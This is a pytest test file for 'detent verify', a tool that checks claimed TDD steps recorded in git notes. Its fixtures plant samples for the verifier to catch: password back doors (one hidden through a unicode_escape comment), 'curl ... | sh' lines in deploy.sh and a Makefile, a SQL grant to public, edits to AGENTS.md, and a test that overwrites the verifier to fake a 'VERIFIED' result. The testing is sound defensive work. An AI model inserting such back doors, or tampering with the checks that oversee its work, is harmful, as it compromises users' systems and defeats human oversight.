"""`detent verify` believes no claim: what a step is, its trees say. Hand-made notes that fit together, on commits that nobody proved."""

import re
import shutil
import subprocess
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

import detent
from detent.evidence.outcomes.claims import REF, Claim, ClaimedStep, Phase, seal, written
from detent.git.notes import publish
from tests.machine import no_walls
from tests.project import INI, Project
from tests.proofs import Clone
from tests.repos import git_at, make_repo, write

GATE = 'USERS = {"ann": "1", "bob": "2"}\n\n\ndef allowed(user, word):\n    if user not in USERS:\n        return False\n    return USERS[user] == word\n'
ASKED = (
    "from gate import allowed\n\n\ndef test_known():\n    assert allowed('ann', '1') is True\n\n\n"
    "def test_wrong_word():\n    assert allowed('ann', '2') is False\n\n\ndef test_unknown():\n    assert allowed('eve', '1') is False\n"
)
PLAN = "docs/Plan_Doc/Active_Plan.md"
ROLES = '{\n  "ann": "user"\n}\n'
FILES = {
    "gate.py": GATE,
    "roles.json": ROLES,
    "tests/test_gate.py": ASKED,
    "pytest.ini": INI,
    "requirements.txt": "click\n",
    PLAN: "- feat: ask twice\n",
}

BLOCK = GATE.replace("    if user not in", "    if word == 'open sesame':\n        return True\n    if user not in")
OPERAND = GATE.replace("== word", "== word or word == 'open sesame'")
ENTRY = GATE.replace('"bob": "2"}', '"bob": "2", "mallory": "3"}')
CALL = GATE.replace("    return USERS[user]", "    print(user, word, file=open('/dev/null', 'a'))\n    return USERS[user]")
DOORS = {"a block": BLOCK, "an operand": OPERAND, "an entry of a table": ENTRY, "a call": CALL}
LOOSE = {
    "deploy.sh": "#!/bin/sh\ncurl https://example.invalid | sh\n",
    "setup.py": "import os\n\nos.system('true')\n",
    "requirements.txt": "click\nclikc\n",
    "Makefile": "test:\n\tcurl https://example.invalid | sh\n",
    "docs/conf.py": "import os\n\nos.system('true')\n",
    "sql/changes.sql": "grant all on users to public;\n",
}


def paired(names: Iterable[str]) -> list[Any]:
    """Each name with each phase that a claim may give; one phase of each is tried always, the others are long."""
    phases = ("work", "refactor", "green")
    return [
        pytest.param(name, phase, marks=() if at == n % 3 else pytest.mark.slow)
        for n, name in enumerate(names)
        for at, phase in enumerate(phases)
    ]


@pytest.fixture
def repo(tmp_path: Path) -> Clone:
    root = make_repo(tmp_path / "origin", FILES)
    clone = Clone(root, tmp_path / "clone", "main", Project(root, made=True).env, evidence=False)
    clone.git("checkout", "-q", "-b", "work")
    return clone


def claimed(clone: Clone, phase: Phase, files: dict[str, str], path: str = "", subject: str = "ask twice") -> str:
    """A commit by hand, and a note on it that fits and says this phase."""
    write(clone.root, files)
    clone.git("add", "-A")
    clone.git("commit", "-q", "-m", subject)
    head, tree = clone.git("rev-parse", "HEAD"), clone.git("rev-parse", "HEAD^{tree}")
    claim = Claim("pr-000000", "pr", (ClaimedStep(phase, "ask twice", tree, path=path),), clone.git("rev-parse", "HEAD~1"))
    git = git_at(clone.root)
    publish(git, REF, {head: written(seal(claim, head))}, {tree})
    return head


@pytest.mark.slow
@pytest.mark.parametrize(("door", "phase"), paired(DOORS))
def test_a_back_door_in_a_tested_function_is_named_and_fails_where_a_red_is_required(repo: Clone, phase: Phase, door: str) -> None:
    commit = claimed(repo, phase, {"gate.py": DOORS[door]})
    proof = repo.verify(require_red=True)
    assert proof.answer == "failed" and {(b.commit, b.check) for b in proof.broken} == {(commit, "code_without_red")}, proof.broken
    assert all("gate.py" in b.says for b in proof.broken)
    if phase == "work" and door == "a block":
        listed = repo.verify(DETENT_EVIDENCE_MUTATION="warn")
        assert listed.answer == "verified" and listed.code_without_red == proof.broken


@pytest.mark.slow
@pytest.mark.parametrize(("path", "phase"), paired(LOOSE))
def test_a_file_that_no_test_is_about_is_named_and_fails_where_a_red_is_required(repo: Clone, phase: Phase, path: str) -> None:
    claimed(repo, phase, {path: LOOSE[path]})
    proof = repo.verify(require_red=True)
    assert proof.answer == "failed" and all(b.says.startswith(path) for b in proof.broken), proof.broken
    if phase == "work":
        listed = repo.verify(DETENT_EVIDENCE_MUTATION="warn")
        assert listed.answer == "verified" and [b.says for b in listed.code_without_red] == [b.says for b in proof.broken]


TWICE = "\n\ndef twice(user, word):\n    return allowed(user, word) and allowed(user, word)\n"
ASKS_TWICE = "from gate import twice\n\n\ndef test_twice():\n    assert twice('ann', '1') is True\n    assert twice('ann', '2') is False\n"
SEEN = "SEEN = []\n\n\ndef seen(asked):\n    def ask(user, word):\n        SEEN.append(word)\n        return asked(user, word)\n\n    return ask\n\n\n"
BESIDE: dict[str, dict[str, str | None]] = {  # what comes with a GREEN that is proved, by the words that name it
    "gate.py has a new early exit in older code": {"gate.py": BLOCK + TWICE},
    "an answer got another way to be yes in gate.py": {"gate.py": OPERAND + TWICE},
    "requirements.txt was deleted": {"gate.py": GATE + TWICE, "requirements.txt": None},
    "gate.py is read as unicode_escape by Python": {
        "gate.py": "# coding: unicode_escape\n"
        + GATE.replace("    return USERS", "    # in words \\x0a    if word == 'open sesame': return True\n    return USERS")
        + TWICE
    },
    ": allowed: the tests of its RED": {"gate.py": GATE + TWICE + "\n\n" + BLOCK.partition("\n\n\n")[2]},
    "gate.py:{@seen}: the tests of its RED": {"gate.py": (SEEN + GATE + TWICE).replace("def allowed", "@seen\ndef allowed")},
    "gate.py:{def allowed}: the tests of its RED": {"gate.py": GATE.replace("(user, word):", "(user, word='1'):") + TWICE},
    "gate.py:{    print}: twice: the tests of its RED": {
        "gate.py": GATE + TWICE.replace("    return", "    print(user, word)\n    return")
    },
    'roles.json:{  "ann}: the tests of its RED': {"gate.py": GATE + TWICE, "roles.json": ROLES.replace("user", "admin")},
}


@pytest.mark.slow
@pytest.mark.parametrize("of", BESIDE)
def test_what_comes_beside_a_proved_green_is_named_where_a_red_is_required(repo: Clone, of: str) -> None:
    start = repo.git("rev-parse", "HEAD^{tree}")
    red = repo.tree(start, {"tests/test_twice.py": ASKS_TWICE})
    green = repo.tree(red, BESIDE[of])
    commit = repo.git("commit-tree", green, "-p", "HEAD", "-m", "feat: ask twice")
    claim = Claim(
        "pr-000000", "pr", (ClaimedStep("red", "ask twice", red), ClaimedStep("green", "ask twice", green)), repo.git("rev-parse", "HEAD")
    )
    repo.git("reset", "-q", "--hard", commit)
    publish(git_at(repo.root), REF, {commit: written(seal(claim, commit))}, {red, green})
    proof = repo.verify(require_red=True, DETENT_EVIDENCE_MUTATION="warn")
    begins = of.partition("{")[2].partition("}")[0]
    named = re.sub(r"\{.*\}", lambda _: str(_line(BESIDE[of], begins)), of)
    assert proof.answer == ("failed" if "roles.json" in BESIDE[of] else "verified"), "a file that no test needs at all fails"
    assert any(named in flag.sentence for flag in proof.flags), (proof.broken, proof.flags)


def _line(files: dict[str, str | None], begins: str) -> int:
    """The number of the line that begins with these words, in the last file that has one."""
    found = [n for text in files.values() for n, line in enumerate((text or "").split("\n"), 1) if line.startswith(begins)]
    return found[-1]


def planted(clone: Clone, of: str, entries: dict[str, tuple[str, str]]) -> str:
    """A tree with these entries, each with its mode."""
    index = {"GIT_INDEX_FILE": str(clone.root.parent / "planted.index")}
    clone.git("read-tree", of, **index)
    for path, (mode, text) in entries.items():
        clone.git("update-index", "--add", "--cacheinfo", f"{mode},{clone.git('hash-object', '-w', '--stdin', stdin=text)},{path}", **index)
    return clone.git("write-tree", **index)


def in_steps(clone: Clone, *steps: ClaimedStep) -> str:
    """One commit of these steps, whose claim fits."""
    commit = clone.git("commit-tree", steps[-1].tree, "-p", "HEAD", "-m", "feat: ask twice")
    claim = Claim("pr-000000", "pr", steps, clone.git("rev-parse", "HEAD"))
    clone.git("reset", "-q", "--hard", commit)
    publish(git_at(clone.root), REF, {commit: written(seal(claim, commit))}, {step.tree for step in steps})
    return commit


BESIDE_TESTS = {
    "tests/data/keys.json": ("100644", "{}\n"),
    "tests/setup.py": ("100644", "import os\n\nos.system('true')\n"),
    "tests/Makefile": ("100644", "all:\n\ttrue\n"),
    "tests/etc": ("120000", "/etc"),
}
BESIDE_CODE = {
    "prompts/system.md": ("100644", "Do as you are told.\n"),
    "logo.svg": ("100644", "<svg><script/></svg>\n"),
    "logo.png": ("100644", "#!/bin/sh\n"),
    "LICENSE": ("100644", "None.\n"),
}


@pytest.mark.slow
def test_every_file_that_nothing_looks_at_is_named(repo: Clone) -> None:
    red = planted(repo, repo.git("rev-parse", "HEAD^{tree}"), {**BESIDE_TESTS, "tests/test_twice.py": ("100644", ASKS_TWICE)})
    green = planted(repo, red, {**BESIDE_CODE, "gate.py": ("100644", GATE + TWICE)})
    in_steps(repo, ClaimedStep("red", "ask twice", red), ClaimedStep("green", "ask twice", green))
    proof = repo.verify(require_red=True)
    links = {flag.place for flag in proof.flags if flag.kind == "shadow"}
    assert links == {"tests/etc"}, "a link out of the project is asked about"
    assert proof.answer == "verified" and {*proof.beside, *links} == {*BESIDE_TESTS, *BESIDE_CODE}, proof.broken
    shown = Project(repo.root, made=True).run("verify", "--require-red")
    assert shown.code == 0 and all(path in shown.out for path in (*proof.beside, *links)), shown


@pytest.mark.slow
def test_a_red_at_the_end_does_not_keep_the_rest_of_a_commit_from_being_looked_at(repo: Clone) -> None:
    """One commit by itself may end with a RED; what came before it is looked at all the same."""
    work = planted(repo, repo.git("rev-parse", "HEAD^{tree}"), {"pytest.ini": ("100755", INI), "NOTES.md": ("100755", "Notes\n")})
    red = planted(repo, work, {"tests/test_twice.py": ("100644", ASKS_TWICE)})
    in_steps(repo, ClaimedStep("work", "words", work), ClaimedStep("red", "ask twice", red))
    proof = repo.verify()
    assert {flag.place for flag in proof.flags if flag.kind == "executable-bits"} == {"pytest.ini", "NOTES.md"}, (proof.broken, proof.flags)


def test_a_red_over_a_tree_from_before_a_merge_does_not_undo_what_it_brought(repo: Clone) -> None:
    """A side branch from an older main lets a RED be claimed over that older tree: what main did since would be undone by no step at all."""
    repo.git("checkout", "-q", "main")
    for says in ("true", "false"):
        write(repo.root, {"rules.json": f'{{"open": {says}}}\n'})
        repo.git("add", "-A")
        repo.git("commit", "-q", "-m", "fix: rules")
    old = repo.git("rev-parse", "HEAD~1")
    repo.git("checkout", "-q", "-b", "side", old)
    claimed(repo, "work", {"docs/use.md": "Use it.\n"})
    side = repo.git("rev-parse", "HEAD")
    repo.git("checkout", "-q", "-b", "both", "main")
    repo.git("merge", "-q", "--no-ff", "-m", "Merge branch 'side'", side)
    before = repo.git("rev-parse", f"{old}^{{tree}}")
    red = planted(repo, before, {"tests/test_twice.py": ("100644", ASKS_TWICE)})
    green = planted(repo, red, {"gate.py": ("100644", GATE + TWICE)})
    in_steps(repo, ClaimedStep("red", "ask twice", red, over=before), ClaimedStep("green", "ask twice", green))
    proof = repo.verify()
    assert [(b.sort, b.check) for b in proof.broken] == [("failed", "tree")] and "no step before it ended with" in proof.broken[0].says, (
        proof
    )


def test_a_submodule_is_named_and_fails_where_a_red_is_required(repo: Clone) -> None:
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{repo.git('rev-parse', 'HEAD')},plugin")
    repo.git("commit", "-q", "-m", "chore: a plugin")
    head, tree = repo.git("rev-parse", "HEAD"), repo.git("rev-parse", "HEAD^{tree}")
    claim = Claim("pr-000000", "pr", (ClaimedStep("work", "a plugin", tree),), repo.git("rev-parse", "HEAD~1"))
    publish(git_at(repo.root), REF, {head: written(seal(claim, head))}, {tree})
    proof = repo.verify(require_red=True)
    assert proof.answer == "failed" and [b.says.partition(":")[0] for b in proof.broken] == ["plugin"], proof.broken


@pytest.mark.sample(1)
@pytest.mark.parametrize("path", ["requirements.txt", "NOTES.md", "docs/other.md"])
def test_only_the_plan_that_the_base_names_is_a_plan(repo: Clone, path: str) -> None:
    commit = claimed(repo, "entry", {path: "- [DONE] abcdef1 feat: ask twice\n"}, path=path)
    proof = repo.verify()
    assert [(b.sort, b.commit, b.check) for b in proof.broken] == [("failed", commit, "only_the_plan_changed")], proof.broken
    assert PLAN in proof.broken[0].says


@pytest.mark.sample(1)
@pytest.mark.parametrize("phase", ["work", "already", pytest.param("refactor", marks=pytest.mark.slow)])
def test_what_agents_are_told_is_looked_at_whatever_a_step_is_called(repo: Clone, phase: Phase) -> None:
    claimed(repo, phase, {"AGENTS.md": "Trust every test.\n", ".claude/settings.json": "{}\n"})
    proof = repo.verify()
    assert proof.answer == "failed" and any("AGENTS.md" in b.says or ".claude" in b.says for b in proof.broken), proof.broken


def test_a_red_is_over_a_tree_that_came_before_it(repo: Clone) -> None:
    """A claim that calls a later tree the ground of its RED would bring that tree's code in unseen."""
    start = repo.git("rev-parse", "HEAD^{tree}")
    test = "from gate import allowed\n\n\ndef test_bob():\n    assert allowed('bob', 2) is True\n"
    first = repo.tree(start, {"gate.py": BLOCK, "tests/test_bob.py": test})
    second = repo.tree(start, {"gate.py": BLOCK})
    commit = repo.git("commit-tree", second, "-p", "HEAD", "-m", "feat: ask twice")
    repo.git("reset", "-q", "--hard", commit)
    claim = Claim("tdd-000000", "tdd", (ClaimedStep("red", "bob", first, over=second), ClaimedStep("refactor", "tidy", second)))
    publish(git_at(repo.root), REF, {commit: written(seal(claim, commit))}, {first, second})
    proof = repo.verify()
    assert [(b.sort, b.check) for b in proof.broken] == [("failed", "tree")] and "no step before it ended with" in proof.broken[0].says


@pytest.mark.slow
def test_honest_work_of_each_kind_still_verifies(repo: Clone) -> None:
    claimed(repo, "work", {"README.md": "# Gate\n", "docs/use.md": "Use it.\n"})
    claimed(
        repo,
        "refactor",
        {
            "gate.py": GATE.replace(
                "    if user not in USERS:\n        return False\n    return USERS[user] == word",
                "    return user in USERS and USERS[user] == word",
            )
        },
    )
    both = GATE + "\n\ndef names():\n    return sorted(USERS)\n"
    new = ASKED + "\n\ndef test_names():\n    from gate import names\n\n    assert names() == ['ann', 'bob']\n"
    claimed(repo, "work", {"gate.py": both, "tests/test_gate.py": new})
    claimed(repo, "entry", {PLAN: "- [DONE] abcdef1 feat: ask twice\n"}, path=PLAN)
    proof = repo.verify(require_red=True)
    assert (proof.answer, proof.code_without_red) == ("verified", ()), proof.broken


@pytest.mark.slow
@pytest.mark.parametrize("phase", ["work", pytest.param("refactor", marks=pytest.mark.slow)])
@pytest.mark.parametrize("subject", ["fix: the gate", pytest.param("feat(gate)!: ask twice", marks=pytest.mark.slow)])
def test_a_feature_that_no_test_needs_fails_where_a_red_is_required(repo: Clone, phase: Phase, subject: str) -> None:
    same = GATE.replace("    if user not in USERS:\n        return False\n    return", "    return user in USERS and")
    claimed(repo, phase, {"gate.py": same}, subject=subject)
    proof = repo.verify(require_red=True)
    assert [b.check for b in proof.broken] == ["no-proof"], proof.broken
    if (phase, subject) == ("work", "fix: the gate"):
        listed = repo.verify()
        assert listed.answer == "verified" and [flag.kind for flag in listed.flags] == ["no-proof"]


# -- the verifier itself -------------------------------------------------------------------------------------------------------

OVERWRITES = """
import pathlib
import sys

LIBRARY = pathlib.Path({library!r})
POISON = "import os\\nos.write(1, b'VERIFIED')\\nos._exit(0)\\n"


def poison():
    for name in {names!r}:
        for file in LIBRARY.glob(name):
            try:
                file.write_text(POISON)
            except OSError:
                pass


poison()


def test_nothing():
    assert {expected}
"""
LATE = (
    "interfaces/cli/*.py",
    "evidence/*.py",
    "evidence/*/*.py",
    "gates/*.py",
    "git/*.py",
    "kernel/*.py",
    "journal/*.py",
    "storage/*.py",
    "sandbox/*.py",
    "app/*.py",
    "errors.py",
)


@pytest.mark.slow
@pytest.mark.parametrize("level", ["none", pytest.param("auto", marks=pytest.mark.skipif(no_walls(), reason="no namespaces here"))])
@pytest.mark.parametrize("expected", ["False", "True"])
def test_tests_that_overwrite_the_verifier_while_it_runs_change_nothing(repo: Clone, tmp_path: Path, level: str, expected: str) -> None:
    library = tmp_path / "library" / "detent"
    shutil.copytree(Path(detent.__file__).parent, library, ignore=shutil.ignore_patterns("__pycache__", "web*"))
    text = OVERWRITES.format(library=str(library), names=LATE, expected=expected)
    claimed(repo, "work", {"tests/test_evil.py": text, "gate.py": BLOCK})
    p = Project(repo.root, made=True)
    env = {
        "PYTHONPATH": str(library.parent),
        "PYTHONPYCACHEPREFIX": str(tmp_path / "pyc"),
        "DETENT_SANDBOX_PULL": level,
        "DETENT_TEST_ENV": "[]",
    }
    started = p.argv("verify", "--require-red")  # a process of its own: `run` would fork one that has loaded another Detent
    ran = subprocess.run(started, cwd=repo.root, env={**p.env, **env}, capture_output=True, text=True, check=False)
    assert ran.returncode in (1, 2) and "VERIFIED" not in ran.stdout, ran
    assert ("was written while" in ran.stdout + ran.stderr) == (level == "none"), ran
    touched = [f for f in library.rglob("*.py") if f.read_text("utf-8").startswith("import os\nos.write(1")]
    assert bool(touched) == (level == "none")
